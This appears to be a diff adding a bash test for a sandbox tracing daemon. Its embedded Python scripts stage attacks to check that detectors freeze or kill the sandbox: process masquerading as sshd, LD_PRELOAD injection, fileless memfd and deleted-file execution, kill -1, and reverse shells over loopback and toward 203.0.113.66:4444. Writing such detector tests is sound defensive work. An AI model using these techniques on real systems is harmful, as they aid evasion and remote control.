@@ -1,0 +1,257 @@
+#!/bin/bash
+# The process tracer's senses of issue 16 (items 4-6), attacked from inside real sandboxes with
+# the detectors' default actions on. A listener on 0.0.0.0 and an accept from loopback are
+# events, not verdicts; refused socket families and netlink kinds arrive as seccomp.denied while
+# netlink route (`ip addr`) still works; an accept from a peer beyond loopback (an outsider in the
+# sandbox's netns) is net.unexpected-listener (frozen); a rename to sshd is exec.masquerade (frozen); kill -1 from
+# a step reaching another step's sleep is signal.beyond-step (frozen); LD_PRELOAD on an exec is
+# exec.loader-injection (frozen) with its value cut at 63 bytes; a program run from /tmp is
+# exec.drift (frozen), from a memfd or a deleted file exec.drift (killed); a shell whose stdio is
+# an accepted socket, and a shell right after a refused connect, are net.reverse-shell (killed).
+. "$(dirname "$0")/../lib.sh"
+fb_setup
+start_daemon --config "$FB_CONF"
+POLICY=$FB_ROOT/tests/policies/attack.json
+
+events() { "$FB" timeline "$1" --json; }
+# verdicts SANDBOX: "rule severity action" of each verdict, sorted and unique.
+verdicts() {
+	events "$1" | python3 -c '
+import json, sys
+for e in map(json.loads, sys.stdin):
+    if e["kind"] == "verdict":
+        f = e["fields"]; print(f["rule"], f["severity"], f["action"])' | sort -u
+}
+# wait_verdict SANDBOX "RULE SEVERITY ACTION": up to 5 s.
+wait_verdict() {
+	for _ in $(seq 100); do verdicts "$1" | grep -qx "$2" && return 0; sleep 0.05; done
+	echo "verdicts of $1: $(verdicts "$1")" >&2
+	return 1
+}
+# killed SANDBOX: its cgroup has no process left.
+killed() { wait_cgroup "$1" populated 0 5; }
+
+# 1. Listener, accept, refused families, netlink route; then a rename to sshd.
+cat >"$T/listen.py" <<'PY'
+import ctypes, errno, socket, subprocess
+srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+srv.bind(("0.0.0.0", 8765)); srv.listen(4)
+c = socket.create_connection(("127.0.0.1", 8765)); a, peer = srv.accept()
+a.close(); c.close(); srv.close()
+def refused(fam, typ, proto, err):
+    try:
+        socket.socket(fam, typ, proto).close()
+    except OSError as e:
+        assert e.errno == err, (fam, proto, e)
+        return
+    raise SystemExit("socket(%d, %d, %d) was not refused" % (fam, typ, proto))
+refused(38, socket.SOCK_SEQPACKET, 0, errno.EAFNOSUPPORT)  # AF_ALG
+refused(17, socket.SOCK_RAW, 0, errno.EAFNOSUPPORT)        # AF_PACKET
+refused(40, socket.SOCK_STREAM, 0, errno.EAFNOSUPPORT)     # AF_VSOCK
+refused(16, socket.SOCK_RAW, 4, errno.EPROTONOSUPPORT)     # NETLINK_SOCK_DIAG
+refused(16, socket.SOCK_RAW, 9, errno.EPROTONOSUPPORT)     # NETLINK_AUDIT
+socket.socket(16, socket.SOCK_RAW, 0).close()               # NETLINK_ROUTE passes
+libc = ctypes.CDLL(None, use_errno=True)
+# AF_PACKET with junk in the high half: the kernel reads the low 32 bits.
+assert libc.syscall(41, ctypes.c_ulong((1 << 32) | 17), 3, 0) == -1
+assert subprocess.run(["ip", "addr"], capture_output=True).returncode == 0, "ip addr fails"
+print("listen ok")
+PY
+cat >"$T/rename.py" <<'PY'
+import ctypes, time
+ctypes.CDLL(None).prctl(15, b"sshd", 0, 0, 0)  # PR_SET_NAME
+time.sleep(3)
+PY
+create_sandbox ps1 "$POLICY"
+for f in listen rename; do copy_in ps1 "$T/$f.py"; done
+out=$("$FB" exec ps1 --tool attack --step 10 -- python3 /workspace/listen.py 2>&1) || fail "listen.py: $out"
+assert_eq "$out" "listen ok" "bind, listen and accept work; refused families refused; ip addr works"
+sleep 0.5
+assert_eq "$(verdicts ps1)" "" "a listener on 0.0.0.0 and an accept from loopback get no verdict"
+events ps1 | python3 -c '
+import json, sys
+ev = [json.loads(l) for l in sys.stdin]
+on = lambda k: [e for e in ev if e["kind"] == k and e["step"] == 10 and e["tool"] == "attack"]
+b = [e["fields"] for e in on("net.bind") if e["fields"]["port"] == 8765]
+assert b and b[0]["address"] == "0.0.0.0" and b[0]["proto"] == "tcp" and b[0]["family"] == "inet", b
+l = [e["fields"] for e in on("net.listen")]
+assert [(f["address"], f["port"]) for f in l] == [("0.0.0.0", 8765)], l
+a = [e["fields"] for e in on("net.accept")]
+assert [(f["address"], f["port"], f["peer_address"]) for f in a] == [("127.0.0.1", 8765, "127.0.0.1")], a
+s = [e for e in on("seccomp.denied") if e["fields"].get("name") == "socket"]
+assert len(s) >= 6, s
+' || fail "bind, listen, accept and refused sockets of step 10"
+ok "net.bind, net.listen (0.0.0.0:8765), net.accept (peer 127.0.0.1) and seccomp.denied socket on step 10"
+"$FB" exec ps1 --tool attack --step 11 -- python3 /workspace/rename.py >/dev/null 2>&1 &
+wait_verdict ps1 "exec.masquerade high freeze" || fail "the rename to sshd is not exec.masquerade"
+wait_cgroup ps1 frozen 1 || fail "ps1 is not frozen"
+events ps1 | python3 -c '
+import json, sys
+r = [json.loads(l) for l in sys.stdin if json.loads(l)["kind"] == "proc.rename"]
+r = [e for e in r if e["fields"]["new_comm"] == "sshd"]
+assert r and r[0]["step"] == 11 and r[0]["tool"] == "attack" and r[0]["fields"]["old_comm"].startswith("python3"), r
+assert r[0]["fields"]["exe"].startswith("python3"), r' || fail "proc.rename of step 11"
+ok "prctl rename to sshd: proc.rename on step 11, exec.masquerade, frozen"
+check "destroy ps1" "$FB" destroy ps1
+
+# 1b. An accept from a peer that is not loopback: a process of the host in the sandbox's network
+# namespace (an outsider getting in), from an address the test adds to the sandbox's lo.
+cat >"$T/serve.py" <<'PY'
+import socket
+s = socket.socket(); s.bind(("0.0.0.0", 8766)); s.listen(1); s.settimeout(10)
+a, p = s.accept(); print("accepted", p)
+PY
+create_sandbox ps9 "$POLICY"
+copy_in ps9 "$T/serve.py"
+"$FB" exec ps9 --tool attack --step 15 -- python3 /workspace/serve.py >/dev/null 2>&1 &
+for _ in $(seq 100); do events ps9 | grep -q '"kind":"net.listen"' && break; sleep 0.05; done
+INIT9=$(state_field ps9 init_pid)
+nsenter -t "$INIT9" -n ip addr add 198.51.100.7/32 dev lo || fail "an address on the sandbox's lo"
+nsenter -t "$INIT9" -n python3 -c '
+import socket
+c = socket.socket(); c.bind(("198.51.100.7", 0)); c.connect(("127.0.0.1", 8766)); c.close()' ||
+	fail "connect from 198.51.100.7"
+wait_verdict ps9 "net.unexpected-listener high freeze" || fail "a non-loopback accept is not net.unexpected-listener"
+wait_cgroup ps9 frozen 1 || fail "ps9 is not frozen"
+events ps9 | python3 -c '
+import json, sys
+a = [json.loads(l) for l in sys.stdin if json.loads(l)["kind"] == "net.accept"]
+assert a and a[0]["step"] == 15 and a[0]["tool"] == "attack", a
+assert (a[0]["fields"]["peer_address"], a[0]["fields"]["port"]) == ("198.51.100.7", 8766), a' ||
+	fail "net.accept of step 15 from 198.51.100.7"
+ok "an accept from 198.51.100.7: net.accept on step 15, net.unexpected-listener, frozen"
+check "destroy ps9" "$FB" destroy ps9
+
+# 2. kill -1 from a step reaches another step's sleep.
+cat >"$T/kill.py" <<'PY'
+import os, signal
+os.kill(-1, signal.SIGCONT)
+PY
+create_sandbox ps2 "$POLICY"
+copy_in ps2 "$T/kill.py"
+"$FB" exec ps2 --tool run --step 20 -- sleep 30 >/dev/null 2>&1 &
+for _ in $(seq 100); do events ps2 | grep -q '"path":"/usr/bin/sleep"' && break; sleep 0.05; done
+"$FB" exec ps2 --tool attack --step 21 -- python3 /workspace/kill.py >/dev/null 2>&1 &
+wait_verdict ps2 "signal.beyond-step high freeze" || fail "kill -1 is not signal.beyond-step"
+wait_cgroup ps2 frozen 1 || fail "ps2 is not frozen"
+events ps2 | python3 -c '
+import json, sys
+s = [json.loads(l) for l in sys.stdin if json.loads(l)["kind"] == "signal.sent"]
+s = [e for e in s if e["fields"]["target_comm"] == "sleep"]
+assert s and s[0]["step"] == 21 and s[0]["tool"] == "attack", s
+f = s[0]["fields"]
+assert (f["where"], f["signal_name"], f["result"], f["via"]) == ("other-step", "SIGCONT", "ignored", "kill"), f  # SIGCONT by default: ignored' ||
+	fail "signal.sent of step 21 to step 20's sleep"
+ok "kill -1 from step 21: signal.sent to step 20's sleep (other-step), signal.beyond-step, frozen"
+check "destroy ps2" "$FB" destroy ps2
+
+# 3. LD_PRELOAD on an exec the tool's environment does not set.
+LONG=/tmp/$(printf 'x%.0s' $(seq 90)).so
+cat >"$T/preload.py" <<PY
+import subprocess
+subprocess.run(["/bin/true"], env={"LD_PRELOAD": "$LONG", "BASH_ENV": "/tmp/rc"})
+PY
+create_sandbox ps3 "$POLICY"
+copy_in ps3 "$T/preload.py"
+"$FB" exec ps3 --tool attack --step 30 -- python3 /workspace/preload.py >/dev/null 2>&1 &
+wait_verdict ps3 "exec.loader-injection high freeze" || fail "LD_PRELOAD is not exec.loader-injection"
+events ps3 | python3 -c '
+import json, sys
+x = [json.loads(l) for l in sys.stdin if json.loads(l)["kind"] == "proc.exec"]
+x = [e for e in x if e["fields"]["path"] == "/bin/true"]
+assert x and x[0]["step"] == 30 and x[0]["tool"] == "attack", x
+f = x[0]["fields"]
+assert f["loader_env"] == "LD_PRELOAD,BASH_ENV", f
+assert f["loader_env_values"] == {"LD_PRELOAD": sys.argv[1][:63], "BASH_ENV": "/tmp/rc"}, f
+assert f["exe_origin"] == "host" and f["parent_exe"].startswith("python3"), f' "$LONG" ||
+	fail "proc.exec of /bin/true with its loader variables"
+ok "LD_PRELOAD=... /bin/true: loader_env and values (cut at 63 bytes) on step 30, exec.loader-injection"
+check "destroy ps3" "$FB" destroy ps3
+
+# 4-6. Drift: a program from /tmp (high), from a memfd and from a deleted file (critical: killed).
+cat >"$T/tmp.py" <<'PY'
+import os, shutil
+shutil.copy("/bin/true", "/tmp/t"); os.chmod("/tmp/t", 0o755)
+os.execv("/tmp/t", ["t"])
+PY
+cat >"$T/memfd.py" <<'PY'
+import os, time
+fd = os.memfd_create("x", 0)
+os.write(fd, open("/bin/sleep", "rb").read())
+os.execve("/proc/self/fd/%d" % fd, ["sleep", "5"], {})
+PY
+cat >"$T/deleted.py" <<'PY'
+import os, shutil
+shutil.copy("/bin/sleep", "/workspace/d"); os.chmod("/workspace/d", 0o755)
+fd = os.open("/workspace/d", os.O_RDONLY)
+os.unlink("/workspace/d")
+os.execve("/proc/self/fd/%d" % fd, ["sleep", "5"], {})
+PY
+drift() { # drift NAME SCRIPT ORIGIN "RULE SEV ACTION"
+	create_sandbox "$1" "$POLICY"
+	copy_in "$1" "$T/$2.py"
+	"$FB" exec "$1" --tool attack --step 40 -- python3 "/workspace/$2.py" >/dev/null 2>&1 &
+	wait_verdict "$1" "$4" || fail "$2: not $4"
+	events "$1" | python3 -c '
+import json, sys
+x = [json.loads(l) for l in sys.stdin if json.loads(l)["kind"] == "proc.exec"]
+x = [e for e in x if e["fields"]["exe_origin"] == sys.argv[1]]
+assert x and x[0]["step"] == 40 and x[0]["tool"] == "attack", x' "$3" || fail "$2: no exec from $3"
+}
+drift ps4 tmp tmp "exec.drift high freeze"
+wait_cgroup ps4 frozen 1 || fail "ps4 is not frozen"
+ok "a program from /tmp: exe_origin tmp on step 40, exec.drift high, frozen"
+check "destroy ps4" "$FB" destroy ps4
+drift ps5 memfd memfd "exec.drift critical kill"
+killed ps5 || fail "ps5 is not killed"
+ok "a program from a memfd: exe_origin memfd, exec.drift critical, killed"
+check "destroy ps5" "$FB" destroy ps5
+drift ps6 deleted deleted "exec.drift critical kill"
+killed ps6 || fail "ps6 is not killed"
+ok "a deleted program: exe_origin deleted, exec.drift critical, killed"
+check "destroy ps6" "$FB" destroy ps6
+
+# 7. A reverse shell on the sandbox's own loopback: the accepted socket is bash's stdio.
+cat >"$T/rsh.py" <<'PY'
+import socket, subprocess
+srv = socket.socket(); srv.bind(("127.0.0.1", 9999)); srv.listen(1)
+c = socket.create_connection(("127.0.0.1", 9999)); a, _ = srv.accept()
+subprocess.run(["/bin/bash", "-c", "sleep 5"], stdin=a, stdout=a, stderr=a)
+PY
+create_sandbox ps7 "$POLICY"
+copy_in ps7 "$T/rsh.py"
+"$FB" exec ps7 --tool attack --step 70 -- python3 /workspace/rsh.py >/dev/null 2>&1 &
+wait_verdict ps7 "net.reverse-shell critical kill" || fail "bash on a socket is not net.reverse-shell"
+killed ps7 || fail "ps7 is not killed"
+events ps7 | python3 -c '
+import json, sys
+x = [json.loads(l) for l in sys.stdin if json.loads(l)["kind"] == "proc.exec"]
+x = [e for e in x if e["fields"]["path"] == "/bin/bash"]
+assert x and x[0]["step"] == 70 and x[0]["fields"]["stdio_socket"] == "stdin,stdout,stderr", x' ||
+	fail "bash's exec with its socket stdio"
+ok "bash with an accepted socket as stdio: stdio_socket, net.reverse-shell critical, killed"
+check "destroy ps7" "$FB" destroy ps7
+
+# 8. A shell right after a refused connect beyond loopback, by a tool with egress of its own (for
+# one without, the connect alone is tool.network-out-of-scope, and the sandbox frozen first).
+cat >"$T/rsh2.py" <<'PY'
+import os, socket
+try:
+    socket.create_connection(("203.0.113.66", 4444), timeout=1)
+except OSError:
+    pass
+os.execv("/bin/sh", ["sh", "-c", "sleep 5"])
+PY
+create_sandbox ps8 "$FB_ROOT/tests/policies/egress.json"
+copy_in ps8 "$T/rsh2.py"
+"$FB" exec ps8 --tool attack --step 80 -- python3 /workspace/rsh2.py >/dev/null 2>&1 &
+wait_verdict ps8 "net.reverse-shell critical kill" || fail "a shell after a refused connect is not net.reverse-shell"
+killed ps8 || fail "ps8 is not killed"
+ok "a shell right after a refused connect: net.reverse-shell critical, killed"
+check "destroy ps8" "$FB" destroy ps8
+# The tool calls left in the background end with their sandboxes (the daemon is a job too).
+calls() { jobs -pr | grep -vx "$DAEMON_PID"; }
+for _ in $(seq 100); do [ -z "$(calls)" ] && break; sleep 0.05; done
+[ -z "$(calls)" ] || fail "tool calls still running after their sandbox was destroyed: $(jobs -r)"
+assert_no_leftovers "after the senses test"
+stop_daemon
